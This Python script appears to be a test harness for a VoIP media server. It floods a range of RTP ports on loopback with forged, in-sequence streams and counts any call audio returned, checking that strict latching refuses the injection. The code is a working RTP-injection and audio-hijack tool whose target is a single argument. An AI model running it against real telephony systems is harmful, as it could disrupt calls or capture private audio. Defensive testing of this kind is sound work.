#!/usr/bin/env python3
"""An attacker on the media ports (standard library only): from --bind (an address other than the
callers', e.g. 127.0.0.2; all of 127/8 is loopback on Linux), sends RTP to every port of
--ports FIRST-LAST, one packet per port every --interval seconds, for --duration seconds. Each
port gets its own SSRC and a sequence number that goes up by one per round, so every port sees a
stream that looks in sequence: the case strict latching must still refuse. Whatever comes back
(the room's audio, had it latched to us) is counted per port.

Prints one JSON line: {"sent": N, "received": N, "ports_answering": [...]}. Bounded by
--duration plus half a second; exit status 0 unless the arguments are wrong.
"""

import argparse
import json
import random
import select
import socket
import struct
import time


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--bind", default="127.0.0.2")
    ap.add_argument("--target", default="127.0.0.1")
    ap.add_argument("--ports", required=True, help="FIRST-LAST")
    ap.add_argument("--interval", type=float, default=0.04)
    ap.add_argument("--duration", type=float, default=5.0)
    a = ap.parse_args()
    first, last = (int(p) for p in a.ports.split("-"))
    ports = list(range(first - first % 2, last + 1, 2))  # RTP is on the even ports

    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((a.bind, 0))
    sock.setblocking(False)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
    streams = {p: [random.randint(1, 0xFFFFFFFF), random.randint(0, 0xFFFF),
                   random.randint(0, 0xFFFFFFFF)] for p in ports}
    payload = b"\x00" * 160  # loud u-law: anyone who heard it would notice
    sent, received, answering = 0, 0, {}
    end = time.monotonic() + a.duration
    next_round = time.monotonic()
    while time.monotonic() < end:
        now = time.monotonic()
        if now >= next_round:
            for p in ports:
                ssrc, seq, ts = streams[p]
                header = struct.pack("!BBHII", 0x80, 0, seq & 0xFFFF, ts & 0xFFFFFFFF, ssrc)
                try:
                    sock.sendto(header + payload, (a.target, p))
                    sent += 1
                except OSError:
                    pass  # ICMP port unreachable from an earlier round: the port is not in use
                streams[p] = [ssrc, seq + 1, ts + 160]
            next_round += a.interval
            continue
        ready, _, _ = select.select([sock], [], [], max(0.0, min(next_round, end) - now))
        while ready:
            try:
                _, source = sock.recvfrom(2048)
            except BlockingIOError:
                break
            except OSError:
                continue  # an ICMP error surfaced on the socket
            received += 1
            answering[source[1]] = answering.get(source[1], 0) + 1
    print(json.dumps({"bind": a.bind, "ports": len(ports), "sent": sent, "received": received,
                      "ports_answering": sorted(answering)}), flush=True)


if __name__ == "__main__":
    main()
